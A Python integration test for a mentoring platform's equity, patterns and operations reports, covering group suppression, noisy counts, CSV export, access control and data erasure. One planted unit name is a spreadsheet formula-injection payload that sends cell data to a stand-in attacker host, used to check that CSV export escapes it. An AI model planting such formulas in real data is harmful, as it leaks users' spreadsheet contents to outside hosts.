"""Equity, patterns and operations over real PostgreSQL and Kafka, checked against
numbers worked out by hand for a planted organisation."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from sqlalchemy import text

from services.insights.domain import stats
from tests.insights.conftest import (
    ADMIN,
    COORDINATOR,
    SPONSOR,
    TENANT,
    event,
    publish,
    until_facts,
)
from tests.profiles.conftest import token
from tests.support.waiting import until

pytestmark = pytest.mark.kafka
JOINED = datetime(2027, 3, 1, tzinfo=UTC)
MATCHED = datetime(2027, 3, 11, tzinfo=UTC)
# unit -> (participants, matched). Retail and Finance clear every keyed threshold
# (k to k + 4); Legal and Tax never do; the last unit is a spreadsheet formula.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
PLANTED = {"Retail": (14, 12), "Finance": (12, 9), "Legal": (2, 2), "Tax": (3, 3)}
PLANTED[FORMULA] = (1, 0)


def near(value: int) -> set[int]:
    """What a count may be published as: perturbed by at most 2, rounded to 5."""
    return {5 * ((2 * (value + d) + 5) // 10) for d in range(-2, 3)}


def planted() -> list:
    messages = []
    for unit, (participants, matched) in PLANTED.items():
        for i in range(participants):
            pid = f"{unit.lower()}-{i}" if unit != FORMULA else f"formula-{i}"
            messages += [
                event(
                    "profiles",
                    "PersonRegistered",
                    pid,
                    {
                        "person_id": pid,
                        "level": 5,
                        "business_unit": unit,
                        "function": "ops",
                        "geography": "FR",
                        "time_zone": "Europe/Paris",
                        "roles": ["mentee"],
                    },
                    at=datetime(2027, 1, 1, tzinfo=UTC),
                ),
                event(
                    "profiles",
                    "ParticipantAdmitted",
                    "c1",
                    {"cohort_id": "c1", "person_id": pid, "role": "mentee"},
                    at=JOINED,
                ),
            ]
            if i < matched:
                messages.append(
                    event(
                        "matching",
                        "PairingConfirmed",
                        f"pair-{unit}{i}",
                        {
                            "pairing_id": f"pair-{unit}{i}",
                            "mentor_id": "mentor-1",
                            "mentee_id": pid,
                            "cohort_id": "c1",
                            "score": 0.6,
                        },
                        at=MATCHED,
                    )
                )
    # Demographics: five Retail people consent as "woman", one as "man"; the rest
    # of the organisation never shared anything.
    for i in range(6):
        messages.append(
            event(
                "profiles",
                "DemographicsShared",
                f"retail-{i}",
                {
                    "person_id": f"retail-{i}",
                    "attributes": {"gender": "woman" if i < 5 else "man"},
                },
                at=datetime(2027, 2, 1, tzinfo=UTC),
            )
        )
    return messages


async def test_equity_by_business_unit_matches_the_hand_computed_numbers(
    insights, kafka_bootstrap
):
    app, client = insights
    messages = planted()
    await publish(kafka_bootstrap, messages)
    await until_facts(app, len(messages))

    report = (
        await client.get("/equity?dimension=business_unit", headers=COORDINATOR)
    ).json()
    groups = {g["group"]: g for g in report["groups"]}
    assert groups["Legal"] == {"group": "Legal", "suppressed": True}
    assert groups["Tax"] == {"group": "Tax", "suppressed": True}
    assert report["suppressed_groups"] == 3  # Legal, Tax and the formula unit
    retail, finance = groups["Retail"], groups["Finance"]
    assert retail["participants"] in near(14) and retail["matched"] in near(12)
    assert finance["participants"] in near(12) and finance["matched"] in near(9)
    assert retail["match_rate"] == min(retail["matched"] / retail["participants"], 1)
    best = max(retail["match_rate"], finance["match_rate"])
    assert finance["match_rate_impact"] == pytest.approx(finance["match_rate"] / best)
    # Evidence beside each rate, from the published counts: the interval, Fisher's
    # exact test against the best group and the verdict; groups of 12-14 people
    # with rates this close are never a significant difference.
    for group in (retail, finance):
        x, n = group["matched"], group["participants"]
        low, high = stats.wilson_interval(min(x, n), n) or (0, 0)
        assert group["match_rate_interval"] == pytest.approx([low, high])
        assert group["match_rate_verdict"] in ("no_adverse_impact", "too_few_to_tell")
        assert group["match_rate_flagged"] is False
    worse = finance if finance["match_rate"] < best else retail
    if worse["match_rate"] < best:
        assert 0.05 <= worse["match_rate_p_value"] <= 1
    assert report["alpha"] == 0.05
    assert groups["Legal"].keys() == {"group", "suppressed"}  # nothing to leak
    assert retail["median_days_to_match"] == 10
    assert retail["mean_match_score"] == pytest.approx(0.6)
    # Counts are published perturbed and rounded, the total too: no exact figure
    # is left to subtract the shown groups from.
    assert report["total"]["participants"] in near(32)

    exported = await client.get("/equity.csv?dimension=business_unit", headers=SPONSOR)
    assert exported.status_code == 200
    assert exported.headers["content-type"].startswith("text/csv")
    rows = {r["group"]: r for r in csv.DictReader(io.StringIO(exported.text))}
    assert rows["Legal"]["suppressed"] == "True" and rows["Legal"]["participants"] == ""
    assert rows["Finance"]["matched"] == str(finance["matched"])
    assert rows["Retail"]["participants"] == str(retail["participants"])
    assert float(rows["Retail"]["match_rate_low"]) == pytest.approx(
        retail["match_rate_interval"][0]
    )
    assert rows["Retail"]["match_rate_verdict"] == retail["match_rate_verdict"]
    assert rows["Legal"]["match_rate_low"] == rows["Legal"]["match_rate_verdict"] == ""
    assert rows["total"]["participants"] == str(report["total"]["participants"])
    # The imported unit named like a formula comes back as text a spreadsheet shows.
    assert "'" + FORMULA in rows
    assert not any(line.startswith("=") for line in exported.text.splitlines())

    demographics = (
        await client.get("/equity?dimension=demographics.gender", headers=ADMIN)
    ).json()
    # Five women and one man consented: the man's group is withheld, so the women's
    # is too (one withheld group would be the total minus the other), and neither
    # is named nor counted.
    assert demographics["groups"] == []
    assert demographics["suppressed_groups"] is None
    assert "woman" not in str(demographics) and "man" not in str(demographics)

    cohort = (
        await client.get("/equity?dimension=level_band&cohort_id=c1", headers=ADMIN)
    ).json()
    assert cohort["groups"][0]["participants"] in near(32)  # all at level 5
    assert cohort["total"]["matched"] in near(26)

    mentee = token(TENANT, "mentee", sub="retail-0")
    for path in ("/equity", "/equity.csv", "/patterns", "/operations"):
        assert (await client.get(path, headers=mentee)).status_code == 403
    bad = await client.get("/equity?dimension=salary", headers=COORDINATOR)
    assert bad.status_code == 422


async def test_patterns_and_operations_are_served_to_overseers(
    insights, kafka_bootstrap
):
    app, client = insights
    messages = planted()
    messages.append(
        event(
            "profiles",
            "MentorProfileSet",
            "mentor-1",
            {
                "person_id": "mentor-1",
                "strengths": [],
                "max_mentees": 52,
                "hours_per_month": 10,
            },
        )
    )
    await publish(kafka_bootstrap, messages)
    await until_facts(app, len(messages))

    patterns = (await client.get("/patterns", headers=COORDINATOR)).json()
    assert patterns["pairings"] == 26
    none_of_26 = [0.0, pytest.approx(stats.wilson_interval(0, 26)[1], abs=1e-4)]
    direction = patterns["characteristics"]["direction"]
    assert direction == [
        {
            "value": "standard",
            "pairings": 26,
            "progressed": {"count": 0, "rate": 0.0, "interval": none_of_26},
            "completed": {"count": 0, "rate": 0.0, "interval": none_of_26},
        }
    ]
    assert {w["criterion"] for w in patterns["suggested_weights"]} == {
        "perspective",
        "style",
    }

    operations = (await client.get("/operations", headers=SPONSOR)).json()
    assert operations["participation"]["participants"] == 32
    assert operations["mentor_utilisation"]["active_pairings"] == 26
    assert operations["mentor_utilisation"]["rate"] == pytest.approx(0.5)
    assert operations["waiting_list"]["length"] == 0

    erased = event(
        "profiles",
        "PersonErased",
        "retail-0",
        {"person_id": "retail-0", "erased_at": "2027-06-01T00:00:00+00:00"},
    )
    await publish(kafka_bootstrap, [erased])

    async def forgotten() -> bool:
        async with app.state.runtime.engine.connect() as conn:
            mentions = (
                await conn.execute(
                    text("SELECT count(*) FROM equity_people WHERE data LIKE :p"),
                    {"p": "%retail-0%"},
                )
            ).scalar_one()
        return bool(mentions == 0)

    # Neither their row nor the mentor's link to them is left.
    await until(forgotten, "equity to forget the erased person", 60)
    report = (await client.get("/equity", headers=COORDINATOR)).json()
    assert {g["group"]: g for g in report["groups"]}["Retail"]["participants"] in near(
        13
    )
    utilisation = (await client.get("/operations", headers=ADMIN)).json()
    assert utilisation["mentor_utilisation"]["active_pairings"] == 26  # anonymised
